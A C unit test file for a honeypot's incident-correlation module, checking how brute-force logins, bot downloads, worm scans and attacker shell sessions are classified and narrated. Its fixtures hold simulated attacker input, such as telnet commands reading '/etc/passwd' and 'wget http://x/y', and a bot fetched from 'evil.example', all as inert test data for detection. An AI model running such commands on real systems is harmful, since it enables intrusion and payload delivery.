/* SPDX-License-Identifier: Apache-2.0 */
/* What records mean together: sources, intrusions, their stories; and that a saved state goes on as if nothing
 * had been. */
#include <errno.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <jansson.h>

#include "base/out.h"
#include "event/event.h"
#include "incident/inside.h"
#include "random_record.h"

enum { TOLD_MAX = 20000, SENT_MAX = 4000, TCP = 6, UDP = 17 };

static const int64_t second_ns = 1000000000;
static const int64_t noon_ns = 1769860800000000000; /* 2026-01-31 12:00 */

/* What was given, to be given again. */
struct sent {
	struct record record;
	const char *json; /* members as an object; NULL: none */
};

static struct sent sent[SENT_MAX];
static size_t n_sent;
static struct incidents *in;
static char *told[TOLD_MAX];
static enum severity severity[TOLD_MAX];
static size_t n_told;
static bool is_new; /* the last file was */

static struct ip address(unsigned a, unsigned b)
{
	return ip_from_v4((uint8_t[]){ (uint8_t)a, 0, 2, (uint8_t)b });
}

static struct ip pot(unsigned n)
{
	return address(10, n);
}

static struct ip outside(unsigned n)
{
	return address(203, n);
}

static void forget_told(void)
{
	while (n_told > 0)
		free(told[--n_told]);
}

static int set_up(void **state)
{
	(void)state;
	n_sent = 0;
	return incidents_new(&in);
}

static int tear_down(void **state)
{
	(void)state;
	in = incidents_free(in);
	forget_told();
	return 0;
}

static void take_what_follows(void)
{
	static char line[RECORD_JSON_MAX];
	static uint8_t packed[RECORD_PACKED_MAX];
	struct record record;

	while (incidents_next(in, &record)) {
		struct out o = out_make(line, sizeof(line));

		record_json(&o, &record, NULL);
		assert_true(out_ok(&o));
		assert_true(record_pack(&record, packed, sizeof(packed)) > 0);
		assert_in_range(n_told, 0, TOLD_MAX - 1);
		severity[n_told] = record_severity(&record);
		told[n_told++] = strdup(line);
	}
}

static void give(const struct sent *s)
{
	struct record record = s->record;
	struct text json = { s->json, s->json ? (uint32_t)strlen(s->json) : 0 };

	(void)incidents_take(in, &record, json);
	is_new = record.type == EVENT_FILEINFO && record.app_FILEINFO.is_new;
	take_what_follows();
}

static void send_record(const struct record *record, const char *json)
{
	assert_in_range(n_sent, 0, SENT_MAX - 1);
	sent[n_sent] = (struct sent){ *record, json };
	give(&sent[n_sent++]);
}

/* At so many seconds after noon. */
static struct record record_at(enum event_type type, double s, enum direction direction,
	struct ip src, struct ip dst, uint16_t dport)
{
	return (struct record){ .type = type,
		.head = { .time_ns = noon_ns + (int64_t)(s * 1e9),
			.src = src,
			.sport = 40000,
			.dst = dst,
			.dport = dport,
			.proto = TCP,
			.direction = (uint8_t)direction,
			.packet = n_sent + 1,
			.honeypot = text_of(direction == DIRECTION_INBOUND
						    ? dst.byte[15] == 1   ? "web"
						      : dst.byte[15] == 2 ? "mail"
									  : ""
					    : src.byte[15] == 1 ? "web"
					    : src.byte[15] == 2 ? "mail"
								: "") } };
}

static void login_as(double s, struct ip from, unsigned to, const char *password,
	const char *result, const char *action)
{
	struct record r = record_at(EVENT_LOGIN, s, DIRECTION_INBOUND, from, pot(to), 22);

	r.head.app_proto = text_of("ssh");
	r.head.flow_id = 100;
	r.login.user = text_of("root");
	r.login.password = text_of(password);
	r.login.result = text_of(result);
	r.login.action = text_of(action);
	send_record(&r, NULL);
}

static void login(double s, struct ip from, unsigned to, const char *password, const char *result)
{
	login_as(s, from, to, password, result, "");
}

static void set_password(
	double s, struct ip from, unsigned to, const char *password, const char *result)
{
	login_as(s, from, to, password, result, "set");
}

static void first_outbound(double s, unsigned from, struct ip to, uint16_t port)
{
	struct record r = record_at(EVENT_INCIDENT, s, DIRECTION_OUTBOUND, pot(from), to, port);

	r.head.flow_id = 300;
	r.head.reason = REASON_FIRST_OUTBOUND;
	r.incident.title = text_of("Honeypot probably compromised");
	send_record(&r, NULL);
}

static void flow(double s, enum direction direction, struct ip from, struct ip to, uint16_t port,
	unsigned answers, enum reason reason)
{
	struct record r = record_at(EVENT_FLOW, s + 1, direction, from, to, port);

	r.head.flow_id = 1000 + n_sent;
	r.head.reason = (uint16_t)reason;
	r.flow.start_ns = r.head.time_ns - second_ns;
	r.flow.end_ns = r.head.time_ns;
	r.flow.pkts_toserver = 4;
	r.flow.pkts_toclient = answers;
	r.flow.tcp_flags_ts = 2;
	r.flow.syn = true;
	r.flow.psh = answers > 1;
	send_record(&r, NULL);
}

static void chat(double s, unsigned from, const char *text)
{
	struct record r =
		record_at(EVENT_CHAT, s, DIRECTION_OUTBOUND, pot(from), outside(66), 6667);

	r.head.flow_id = 500;
	r.chat.kind = text_of("message");
	r.chat.nick = text_of("bot17");
	r.chat.channel = text_of("#owned");
	r.chat.text = text_of(text);
	send_record(&r, NULL);
}

static void typed(double s, struct ip from, unsigned to, const char *json)
{
	struct record r = record_at(EVENT_TELNET, s, DIRECTION_INBOUND, from, pot(to), 23);

	r.head.flow_id = 400;
	send_record(&r, json);
}

static void stopped(double s, unsigned from, enum reason reason, struct ip to, uint16_t port)
{
	struct record r = record_at(EVENT_DROP, s, DIRECTION_OUTBOUND, pot(from), to, port);

	r.head.reason = (uint16_t)reason;
	r.head.verdict = VERDICT_DROP;
	r.drop.reason = (uint16_t)reason;
	r.drop.count = 3;
	send_record(&r, NULL);
}

static void alert(double s, enum direction direction, struct ip from, struct ip to, uint16_t port,
	bool rewritten)
{
	struct record r = record_at(EVENT_ALERT, s, direction, from, to, port);

	r.head.flow_id = 600;
	r.alert.action = text_of(rewritten ? "blocked" : "allowed");
	r.alert.gid = 1;
	r.alert.sid = 645;
	r.alert.severity = 1;
	r.alert.signature = text_of("SHELLCODE sparc NOOP");
	if (rewritten) {
		r.alert.before = text_of("2f62696e2f7368");
		r.alert.after = text_of("2f62656e2f7368");
	}
	send_record(&r, NULL);
}

static void file(double s, enum direction direction, struct ip from, struct ip to, uint16_t sport,
	const char *json)
{
	struct record r = record_at(EVENT_FILEINFO, s, direction, from, to, 21);

	r.head.sport = sport;
	r.head.flow_id = 700 + n_sent;
	r.head.app_proto = text_of("ftp-data");
	send_record(&r, json);
}

static void clock_at(double s)
{
	struct record r = { .type = EVENT_STATS, .head.time_ns = noon_ns + (int64_t)(s * 1e9) };

	send_record(&r, NULL);
}

static void finish(void)
{
	incidents_finish(in);
	take_what_follows();
}

/* ---- what was told ---- */

static size_t count_told(const char *what)
{
	size_t n = 0;

	for (size_t i = 0; i < n_told; i++)
		n += strstr(told[i], what) != NULL;
	return n;
}

static size_t count_alerts(void)
{
	size_t n = 0;

	for (size_t i = 0; i < n_told; i++)
		n += severity[i] == SEVERITY_ALERT;
	return n;
}

/* The last record of that stage, or of a source. */
static json_t *last_told(const char *what)
{
	for (size_t i = n_told; i-- > 0;)
		if (strstr(told[i], what)) {
			json_t *root = json_loads(told[i], 0, NULL);

			assert_non_null(root);
			return root;
		}
	fail_msg("nothing told of %s", what);
	return NULL;
}

static void check_text(
	const json_t *root, const char *object, const char *name, const char *expected)
{
	const char *text = json_string_value(json_object_get(json_object_get(root, object), name));

	assert_string_equal(text ? text : "", expected);
}

static uint64_t number(const json_t *root, const char *object, const char *name)
{
	return (uint64_t)json_integer_value(json_object_get(json_object_get(root, object), name));
}

/* The places of these words in the story, which must be in that order; ends with NULL. */
static void check_story(const json_t *root, ...)
{
	const json_t *story = json_object_get(json_object_get(root, "incident"), "story"), *s;
	const char *words;
	size_t at = 0;
	va_list args;

	va_start(args, root);
	while ((words = va_arg(args, const char *))) {
		while ((s = json_array_get(story, at)) &&
			!strstr(json_string_value(json_object_get(s, "text")), words))
			at++;
		if (!s)
			fail_msg("'%s' is not in the story, or not in its place: %s", words,
				json_dumps(story, 0));
	}
	va_end(args);
}

/* ---- saved and loaded ---- */

static void save_and_load(void)
{
	size_t size = incidents_save_size(in);
	void *bytes = malloc(size);

	assert_non_null(bytes);
	assert_int_equal(incidents_save(in, bytes, size - 1), 0);
	assert_int_equal(incidents_save(in, bytes, size), size);
	incidents_free(in);
	assert_int_equal(incidents_new(&in), 0);
	assert_int_equal(incidents_load(in, bytes, size - 1), -EBADMSG);
	assert_int_equal(incidents_load(in, bytes, size), 0);
	free(bytes);
}

/* ---- the stories ---- */

/* dtspcd, 2002: an attack that no rule knows by name, a back door on another port, then it speaks out. */
static void tell_exploit(void)
{
	alert(0, DIRECTION_INBOUND, outside(7), pot(1), 6112, false);
	flow(0, DIRECTION_INBOUND, outside(7), pot(1), 6112, 5, REASON_INBOUND);
	flow(5, DIRECTION_INBOUND, outside(7), pot(1), 1524, 5, REASON_INBOUND);
	first_outbound(30, 1, outside(50), 21);
	flow(30, DIRECTION_OUTBOUND, pot(1), outside(50), 21, 9, REASON_WITHIN_BUDGET);
	clock_at(120);
}

static void test_exploit(void **state)
{
	json_t *root;

	(void)state;
	tell_exploit();
	/* The gate's record was the alert; nothing else is one. */
	assert_int_equal(count_alerts(), 0);
	finish();
	assert_int_equal(count_told("\"stage\":\"closed\""), 1);
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "exploit");
	check_text(root, "incident", "severity", "high");
	check_text(root, "fishbowl", "title",
		"web: it began a conversation with the outside (203.0.2.50), after 203.0.2.7 was "
		"in touch; "
		"it is over");
	check_story(root, "rule 645: SHELLCODE", "began to speak to 203.0.2.50:21/TCP", NULL);
	assert_int_equal(number(root, "incident", "outbound"), 1);
	json_decref(root);
}

static void test_gate_record(void **state)
{
	struct record r = record_at(EVENT_INCIDENT, 0, DIRECTION_OUTBOUND, pot(1), outside(50), 21);

	(void)state;
	r.head.reason = REASON_FIRST_OUTBOUND;
	r.incident.title = text_of("Honeypot probably compromised");
	assert_true(incidents_take(in, &r, (struct text){ 0 }));
	assert_memory_equal(r.incident.stage.at, "opened", 6);
	assert_int_equal(record_severity(&r), SEVERITY_ALERT);
	take_what_follows();
	assert_int_equal(n_told, 0);
	/* After a restart the gate says it again: no second alert. */
	r.head.time_ns += 60 * second_ns;
	assert_true(incidents_take(in, &r, (struct text){ 0 }));
	assert_memory_equal(r.incident.stage.at, "grew", 4);
	assert_int_equal(record_severity(&r), SEVERITY_INFO);
}

static void tell_bot(void)
{
	for (int i = 0; i < 40; i++)
		login(i * 0.5, outside(9), 1, i % 2 ? "hunter2" : "geheim", "failure");
	login(21, outside(9), 1, "letmein99", "success");
	first_outbound(24, 1, outside(50), 80);
	{
		struct record r =
			record_at(EVENT_HTTP, 24.5, DIRECTION_OUTBOUND, pot(1), outside(50), 80);

		r.head.flow_id = 300;
		send_record(&r, "{\"http\":{\"hostname\":\"evil.example\",\"url\":\"/bot.tgz\","
				"\"http_method\":\"GET\"}}");
	}
	file(25, DIRECTION_INBOUND, outside(50), pot(1), 20,
		"{\"fileinfo\":{\"filename\":\"bot.tgz\",\"size\":1000,\"sha256\":\"aa11\"}}");
	for (int i = 0; i < 12; i++)
		chat(60 + i * 30, 1, i % 3 ? "[SCAN]: 192.0.2.0/24 exploited" : "!report");
	for (int i = 0; i < 20; i++)
		stopped(500 + i, 1, REASON_TCP_LIMIT, address(198, (unsigned)i), 445);
	clock_at(1000);
}

static void test_bot(void **state)
{
	json_t *root;

	(void)state;
	tell_bot();
	/* Opened by the login, raised by the gate's record (which is not ours), raised by what was stopped. */
	assert_int_equal(count_told("\"stage\":\"opened\""), 1);
	assert_int_equal(count_told("\"stage\":\"raised\""), 1);
	assert_int_equal(count_alerts(), 2);
	root = last_told("\"stage\":\"opened\"");
	check_text(root, "incident", "severity", "medium");
	check_text(root, "incident", "class", "brute-force");
	check_text(root, "incident", "actor", "automated");
	check_text(root, "fishbowl", "title", "web: 203.0.2.9 got in (login)");
	json_decref(root);
	/* At most once a minute of its seventeen. */
	assert_in_range(count_told("\"stage\":\"grew\""), 5, 17);
	finish();
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "bot");
	check_text(root, "incident", "actor", "automated");
	check_text(root, "incident", "severity", "critical");
	assert_int_equal(number(root, "incident", "logins"), 41);
	assert_int_equal(number(root, "incident", "logins_good"), 1);
	assert_int_equal(number(root, "incident", "stopped"), 60);
	check_story(root, "tried to log in over ssh", "203.0.2.9 logged in over ssh as 'root'",
		"began to speak to 203.0.2.50:80/TCP", "asked for GET http://evil.example/bot.tgz",
		"fetched 'bot.tgz', 1000 bytes, new, sha256 aa11", "bot17 in #owned: !report",
		"stopped (tcp-limit) on the way to port 445", NULL);
	json_decref(root);
	assert_int_equal(count_told("letmein99"), 0);
	assert_int_equal(count_told("hunter2"), 0);
	assert_int_equal(count_told("\"event_type\":\"source\""), 0);
}

static void test_scan(void **state)
{
	json_t *root;

	(void)state;
	for (unsigned i = 0; i < 8; i++)
		flow(i, DIRECTION_INBOUND, outside(3), pot(i), 445, i % 2, REASON_INBOUND);
	clock_at(60);
	assert_int_equal(n_told, 0);
	clock_at(60 + SOURCE_IDLE_S);
	assert_int_equal(n_told, 1);
	assert_int_equal(count_alerts(), 0);
	root = last_told("\"event_type\":\"source\"");
	check_text(root, "source", "class", "scan");
	check_text(root, "source", "actor", "automated");
	assert_int_equal(number(root, "source", "flows"), 8);
	assert_in_range(number(root, "source", "targets"), 6, 8);
	json_decref(root);
	finish();
	assert_int_equal(n_told, 1);
}

/* The same attack to one after the other, and what was attacked does the same. */
static void test_worm(void **state)
{
	json_t *root;

	(void)state;
	for (unsigned i = 1; i < 5; i++)
		alert(i, DIRECTION_INBOUND, outside(4), pot(i), 445, false);
	flow(1, DIRECTION_INBOUND, outside(4), pot(1), 445, 9, REASON_INBOUND);
	for (unsigned i = 0; i < 12; i++)
		flow(20 + i, DIRECTION_OUTBOUND, pot(1), address(198, 10 + i), 445, 0,
			i < 10 ? REASON_WITHIN_BUDGET : REASON_TCP_LIMIT);
	stopped(40, 1, REASON_TCP_LIMIT, address(198, 30), 445);
	finish();
	assert_int_equal(count_told("\"stage\":\"opened\""), 1);
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "worm");
	check_text(root, "incident", "actor", "automated");
	json_decref(root);
}

static void type_lines(const double *at, size_t n, unsigned who)
{
	static const char *const line[] = { "{\"telnet\":{\"command\":\"w\"}}",
		"{\"telnet\":{\"command\":\"uname -a\"}}",
		"{\"telnet\":{\"command\":\"cat /etc/passwd\"}}",
		"{\"telnet\":{\"command\":\"ls -la\"}}",
		"{\"telnet\":{\"command\":\"wget http://x/y\"}}" };

	for (size_t i = 0; i < n; i++)
		typed(at[i], outside(who), 1, line[i % 5]);
}

static void test_human(void **state)
{
	static const double at[] = { 0, 3.1, 11.9, 13.7, 22, 41.5, 44 };
	json_t *root;

	(void)state;
	type_lines(at, 7, 8);
	finish();
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "shell");
	check_text(root, "incident", "actor", "human");
	check_story(
		root, "typed: w, new", "typed: uname -a, new", "typed: wget http://x/y, new", NULL);
	assert_int_equal(number(root, "incident", "typed"), 7);
	json_decref(root);
	assert_int_equal(count_alerts(), 1);
}

static void test_typing_program(void **state)
{
	static const double at[] = { 0, 0.1, 0.2, 0.35, 0.4, 1.4, 2.4, 3.4 };
	json_t *root;

	(void)state;
	type_lines(at, 8, 8);
	finish();
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "shell");
	check_text(root, "incident", "actor", "automated");
	json_decref(root);
}

/* What is typed after a refusal opens nothing. */
static void test_refused(void **state)
{
	struct record r = record_at(EVENT_LOGIN, 0, DIRECTION_INBOUND, outside(8), pot(1), 23);

	(void)state;
	r.head.flow_id = 400;
	r.login.user = text_of("root");
	r.login.password = text_of("x");
	r.login.result = text_of("failure");
	send_record(&r, NULL);
	typed(1, outside(8), 1, "{\"telnet\":{\"command\":\"enable\"}}");
	r.head.time_ns += 2 * second_ns;
	r.head.app_proto = text_of("ftp");
	r.login.user = text_of("anonymous");
	r.login.result = text_of("success");
	send_record(&r, NULL);
	r.head.app_proto = text_of("smb");
	r.login.user = text_of("admin");
	r.login.method = text_of("guest");
	send_record(&r, NULL);
	assert_int_equal(n_told, 0);
}

static void test_roach_motel(void **state)
{
	json_t *root;

	(void)state;
	login(0, outside(9), 1, "letmein99", "success");
	for (int i = 0; i < 5; i++)
		stopped(10 + i, 1, REASON_ROACH_MOTEL, outside(50), 80);
	stopped(20, 1, REASON_NEIGHBOUR_LIMIT, outside(50), 80); /* tells nothing */
	finish();
	assert_int_equal(count_alerts(), 2);
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "severity", "high");
	assert_int_equal(number(root, "incident", "stopped"), 15);
	check_story(root, "logged in", "stopped (roach-motel) on the way to port 80", NULL);
	json_decref(root);
}

static void test_rewritten(void **state)
{
	json_t *root;

	(void)state;
	alert(0, DIRECTION_OUTBOUND, pot(1), outside(50), 80, true);
	finish();
	assert_int_equal(count_alerts(), 1);
	root = last_told("\"stage\":\"opened\"");
	check_text(root, "incident", "severity", "critical");
	check_text(root, "fishbowl", "title", "web: what it sends out was rewritten (203.0.2.50)");
	assert_int_equal(number(root, "incident", "disarmed"), 1);
	json_decref(root);
}

/* Protocol 11: nobody answers, and then it acts. Either record may come first. */
static void check_backdoor(bool quiet_first)
{
	struct record quiet = record_at(EVENT_FLOW, 60, DIRECTION_INBOUND, outside(11), pot(1), 0);
	json_t *root;

	quiet.head.proto = 11;
	quiet.flow.start_ns = quiet.flow.end_ns = noon_ns + 5 * second_ns;
	quiet.flow.pkts_toserver = 2;
	if (quiet_first)
		send_record(&quiet, NULL);
	flow(8, DIRECTION_OUTBOUND, pot(1), outside(50), 80, 4, REASON_WITHIN_BUDGET);
	if (!quiet_first)
		send_record(&quiet, NULL);
	finish();
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "incident", "class", "bot");
	check_story(
		root, "011 from 203.0.2.11, unanswered; 3 s later it began with 203.0.2.50", NULL);
	json_decref(root);
}

static void test_backdoor(void **state)
{
	(void)state;
	check_backdoor(true);
}

static void test_backdoor_told_late(void **state)
{
	(void)state;
	check_backdoor(false);
}

/* Background noise: knocks on ports are no back door. */
static void test_knock_is_no_backdoor(void **state)
{
	(void)state;
	flow(5, DIRECTION_INBOUND, outside(11), pot(1), 445, 0, REASON_INBOUND);
	flow(8, DIRECTION_OUTBOUND, pot(1), outside(50), 80, 4, REASON_WITHIN_BUDGET);
	finish();
	assert_int_equal(count_told("unanswered"), 0);
}

static void bring(double s, unsigned from, const char *sha256)
{
	char json[96];

	snprintf(json, sizeof(json),
		"{\"fileinfo\":{\"filename\":\"a\",\"size\":1,\"sha256\":\"%s\"}}", sha256);
	file(s, DIRECTION_INBOUND, outside(from), pot(1), 40001, json);
}

static void test_joined(void **state)
{
	json_t *root;

	(void)state;
	login(0, outside(9), 1, "letmein99", "success");
	login(10, outside(10), 1, "letmein99", "success"); /* the same credential */
	bring(20, 9, "bb");
	assert_true(is_new);
	bring(30, 12, "bb");
	assert_false(is_new);
	login(40, outside(13), 1, "other", "success");    /* somebody else */
	login(50, outside(9), 2, "letmein99", "success"); /* another honeypot */
	finish();
	assert_int_equal(count_told("\"stage\":\"opened\""), 3);
	root = last_told("\"ip\":\"203.0.2.10\",\"why\":\"the same login worked\"},"
			 "{\"ip\":\"203.0.2.12\",\"why\":\"the same file\"}");
	json_decref(root);
}

/* Whoever comes with the password that he has set is of his company, but not with one that was refused. To set one
 * is no login, and what somebody sets who is not in tells nothing. */
static void test_password_set(void **state)
{
	json_t *root;

	(void)state;
	set_password(0, outside(8), 1, "early", "success");
	assert_int_equal(count_told("\"stage\":\"opened\""), 0);
	login(10, outside(9), 1, "letmein99", "success");
	set_password(20, outside(9), 1, "mine-now", "unknown");
	set_password(30, outside(9), 1, "too-short", "failure");
	login(40, outside(10), 1, "mine-now", "success");
	login(50, outside(11), 1, "too-short", "success");
	login(60, outside(12), 1, "early", "success");
	finish();
	assert_int_equal(count_told("\"stage\":\"opened\""), 3);
	root = last_told("\"ip\":\"203.0.2.10\",\"why\":\"the same login worked\"");
	assert_int_equal(number(root, "incident", "logins"), 2);
	json_decref(root);
}

/* The same file brought to two honeypots by two who share nothing else: many bring what everybody has. */
static void test_same_file_elsewhere(void **state)
{
	static const char json[] =
		"{\"fileinfo\":{\"filename\":\"a\",\"size\":1,\"sha256\":\"bb\"}}";

	(void)state;
	file(0, DIRECTION_INBOUND, outside(9), pot(1), 40001, json);
	file(60, DIRECTION_INBOUND, outside(10), pot(2), 40001, json);
	finish();
	assert_int_equal(count_told("\"stage\":\"opened\""), 2);
	assert_int_equal(count_told("the same file"), 0);
}

/* More than there is room for in the record: each counts once, however often he comes. */
static void test_many_remotes(void **state)
{
	json_t *root;

	(void)state;
	for (unsigned n = 0; n < 100; n++)
		for (unsigned i = 0; i < REMOTES_MAX + 4; i++)
			bring(n, 20 + i, "bb");
	finish();
	root = last_told("\"stage\":\"closed\"");
	assert_int_equal(number(root, "incident", "more_remotes"), 4);
	json_decref(root);
}

/* What everybody tries is no company's secret: an incident for each who gets in with it, and each ends. */
static void test_weak_password(void **state)
{
	(void)state;
	for (unsigned i = 0; i < 4; i++)
		login(i, outside(20 + i), 2, "123456", "failure");
	for (unsigned i = 0; i < 24; i++)
		login(100 + i * 3600, outside(30 + i), 1, "123456", "success");
	assert_int_equal(count_told("\"stage\":\"opened\""), 24);
	clock_at(100 + 23 * 3600 + 60);
	assert_int_equal(count_told("\"stage\":\"closed\""), 18); /* those of six hours ago */
	assert_int_equal(count_told("the same login worked"), 0);
}

/* Nobody has tried it before: the first few may be one company, then it is known to be none. */
static void test_password_that_becomes_known(void **state)
{
	(void)state;
	for (unsigned i = 0; i < 8; i++)
		login(i * 3600, outside(50 + i), 1, "123456", "success");
	assert_int_equal(count_told("\"stage\":\"opened\""), 8 - (TRIED_FEW - 1));
	assert_int_equal(count_told("\"stage\":\"closed\""), 0);
	clock_at(2 * 3600 + INCIDENT_IDLE_S + 10);
	assert_int_equal(count_told("\"stage\":\"closed\""), 1);
}

/* Who had to guess was told by nobody. */
static void test_guessed(void **state)
{
	(void)state;
	login(0, outside(9), 1, "zaq12wsx", "success");
	login(10, outside(10), 1, "zaq11", "failure");
	login(11, outside(10), 1, "zaq12wsx", "success");
	login(20, outside(11), 1, "zaq12wsx", "success"); /* he knew it */
	assert_int_equal(count_told("\"stage\":\"opened\""), 2);
	finish();
	assert_int_equal(count_told("\"stage\":\"closed\""), 2);
	json_decref(last_told("\"ip\":\"203.0.2.11\",\"why\":\"the same login worked\""));
}

/* One who tries many does not make forgotten what many try. */
static void test_many_guesses(void **state)
{
	char password[16];

	(void)state;
	for (unsigned i = 0; i < 4; i++)
		login(i, outside(20 + i), 2, "123456", "failure");
	for (unsigned i = 0; i < 5 * TRIED_MAX; i++) {
		n_sent = 0;
		snprintf(password, sizeof(password), "%u", i);
		login(10, outside(40), 3, password, "failure");
	}
	save_and_load();
	login(20, outside(30), 1, "123456", "success");
	login(30, outside(31), 1, "123456", "success");
	assert_int_equal(count_told("\"stage\":\"opened\""), 2);
}

/* fb-lens is behind the gate: the login is told of after what followed from it. */
static void test_entry_told_late(void **state)
{
	json_t *root;

	(void)state;
	flow(1, DIRECTION_INBOUND, outside(30), pot(1), 80, 4, REASON_INBOUND); /* somebody else */
	first_outbound(24, 1, outside(50), 80);
	login(21, outside(9), 1, "letmein99", "success");
	finish();
	assert_int_equal(count_told("\"stage\":\"closed\""), 1);
	root = last_told("\"stage\":\"closed\"");
	check_text(root, "fishbowl", "title",
		"web: it began a conversation with the outside (203.0.2.50), after 203.0.2.9 got "
		"in; "
		"it is over");
	check_story(root, "logged in", "began to speak", NULL);
	json_decref(root);
}

static void test_housekeeping(void **state)
{
	struct record r;

	(void)state;
	flow(0, DIRECTION_OUTBOUND, pot(1), outside(53), 53, 1, REASON_RESOLVER);
	flow(0, DIRECTION_OUTBOUND, pot(1), outside(53), 53, 1, REASON_NONE);
	flow(0, DIRECTION_OUTBOUND, pot(1), address(224, 1), 5353, 0, REASON_NONE);
	flow(0, DIRECTION_OUTBOUND, pot(1), outside(5), 40000, 5, REASON_REPLY);
	r = record_at(EVENT_DNS, 1, DIRECTION_OUTBOUND, pot(1), outside(53), 53);
	send_record(&r, "{\"dns\":{\"queries\":[{\"rrname\":\"a.example\"}]}}");
	finish();
	assert_int_equal(n_told, 0);
}

/* What is first heard of a honeypot is a spoofed packet: it is told of under an address of its own. */
static void test_spoofed_first(void **state)
{
	struct record r =
		record_at(EVENT_DROP, 0, DIRECTION_OUTBOUND, outside(200), outside(5), 80);

	(void)state;
	r.head.honeypot = text_of("web");
	r.head.reason = r.drop.reason = REASON_SPOOF_IP;
	r.head.verdict = VERDICT_DROP;
	r.drop.count = 1;
	send_record(&r, NULL);
	assert_int_equal(count_told("\"stage\":\"opened\""), 1);
	flow(1, DIRECTION_OUTBOUND, pot(1), outside(6), 80, 5, REASON_WITHIN_BUDGET);
	finish();
	assert_int_equal(count_told("\"stage\":\"closed\""), 1);
	assert_non_null(strstr(told[n_told - 1], "\"src_ip\":\"10.0.2.1\""));
	assert_null(strstr(told[n_told - 1], "\"203.0.2.200\""));
}

/* ---- limits ---- */

static void test_crowded(void **state)
{
	(void)state;
	for (unsigned i = 0; i < 200; i++)
		login(i, outside(i % 250), i, "x", "success");
	assert_int_equal(incidents_counts(in).opened, 200);
	assert_int_equal(incidents_counts(in).crowded_out, 200 - (INCIDENTS_MAX - 1));
	assert_int_equal(count_told("\"stage\":\"opened\""), 200);
	finish();
	assert_int_equal(count_told("\"stage\":\"closed\""), 200);
	assert_int_equal(incidents_counts(in).open, 0);
}

/* A scan of what is no honeypot does not make forgotten who was in touch with one. */
static void test_scan_of_unlisted(void **state)
{
	(void)state;
	login(0, outside(9), 1, "x", "failure");
	for (unsigned i = 0; i < POTS_MAX + 50; i++)
		flow(10, DIRECTION_INBOUND, outside(66),
			ip_from_v4((uint8_t[]){ 10, 1, (uint8_t)(i >> 8), (uint8_t)i }), 445, 0,
			REASON_INBOUND);
	first_outbound(30, 1, outside(50), 80);
	finish();
	json_decref(last_told("\"ip\":\"203.0.2.9\",\"why\":\"in touch shortly before\""));
}

static void test_many_sources(void **state)
{
	(void)state;
	for (unsigned i = 0; i < SOURCES_MAX + 500; i++) {
		struct ip ip = ip_from_v4((uint8_t[]){ 198, 51, (uint8_t)(i >> 8), (uint8_t)i });

		n_sent = 0;
		flow(0, DIRECTION_INBOUND, ip, pot(1), 23, 0, REASON_INBOUND);
	}
	assert_int_equal(incidents_counts(in).unlisted, 501);
	assert_int_equal(incidents_counts(in).following, SOURCES_MAX - 1);
	finish();
	assert_int_equal(n_told, SOURCES_MAX - 1);
	assert_int_equal(count_told("\"unlisted\":501"), 1);
}

/* Who sends chooses from where: addresses that share a place in the table of one are no chain in another's. */
static void test_chosen_sources(void **state)
{
	const struct ip one = { .byte = { 0x20, 1 } };
	struct incidents *other;
	unsigned shared = 0;

	(void)state;
	assert_int_equal(incidents_new(&other), 0);
	for (uint32_t i = 0, n = 0; n < 64; i++) {
		struct ip ip = one;

		memcpy(ip.byte + 12, &i, sizeof(i));
		if (source_bucket(in, &ip) != source_bucket(in, &one))
			continue;
		n++;
		shared += source_bucket(other, &ip) == source_bucket(other, &one);
	}
	incidents_free(other);
	assert_in_range(shared, 1, 8); /* the first with itself */
}

static void test_idle(void **state)
{
	(void)state;
	login(0, outside(9), 1, "x", "success");
	clock_at(INCIDENT_IDLE_S - 10);
	assert_int_equal(count_told("closed"), 0);
	clock_at(INCIDENT_IDLE_S + 10);
	assert_int_equal(count_told("closed"), 1);
	login(INCIDENT_IDLE_S + 20, outside(9), 1, "x", "success");
	assert_int_equal(count_told("opened"), 2);
}

/* ---- where they are ---- */

static void place(
	double s, struct ip whose, const char *country, uint32_t as_number, const char *as_name)
{
	struct record r = record_at(EVENT_FINGERPRINT, s, DIRECTION_INBOUND, whose, pot(1), 22);

	r.fingerprint.kind = text_of("syn");
	r.fingerprint.subject = whose;
	r.fingerprint.country = text_of(country);
	r.fingerprint.as_number = as_number;
	r.fingerprint.as_name = text_of(as_name);
	send_record(&r, NULL);
}

static void check_place(
	const json_t *place, const char *country, uint32_t as_number, const char *as_name)
{
	const char *c = json_string_value(json_object_get(place, "country"));
	const char *n = json_string_value(json_object_get(place, "as_name"));

	assert_string_equal(c ? c : "", country);
	assert_int_equal(json_integer_value(json_object_get(place, "as_number")), as_number);
	assert_string_equal(n ? n : "", as_name);
}

static const json_t *remote_of(const json_t *root, size_t i)
{
	return json_array_get(json_object_get(json_object_get(root, "incident"), "remotes"), i);
}

/* Who got in is somewhere, and so are the others; a login says it too, of whom it names. */
static void test_places(void **state)
{
	struct record r = record_at(EVENT_LOGIN, 20, DIRECTION_INBOUND, outside(9), pot(1), 22);
	json_t *root;

	(void)state;
	place(0, outside(8), "NL", 64500, "Example \"AS\"\n\xff");
	place(1, outside(8), "", 0, ""); /* says nothing */
	login(10, outside(8), 1, "x", "success");
	r.head.app_proto = text_of("ssh");
	r.login.user = text_of("root");
	r.login.password = text_of("x");
	r.login.result = text_of("success");
	r.login.placed = outside(9);
	r.login.country = text_of("DE");
	send_record(&r, NULL);
	login(30, outside(10), 1, "x", "success");
	finish();
	root = last_told("\"stage\":\"opened\"");
	check_place(json_object_get(root, "geo"), "NL", 64500, "Example \"AS\"\n\xef\xbf\xbd");
	json_decref(root);
	root = last_told("\"stage\":\"closed\"");
	check_place(json_object_get(root, "geo"), "NL", 64500, "Example \"AS\"\n\xef\xbf\xbd");
	check_place(remote_of(root, 0), "NL", 64500, "Example \"AS\"\n\xef\xbf\xbd");
	check_place(remote_of(root, 1), "DE", 0, "");
	assert_int_equal(json_object_size(remote_of(root, 1)), 3);
	assert_int_equal(json_object_size(remote_of(root, 2)), 2);
	json_decref(root);
}

/* The other side of a login is not where its sender is; of whom nothing is known nothing is said. */
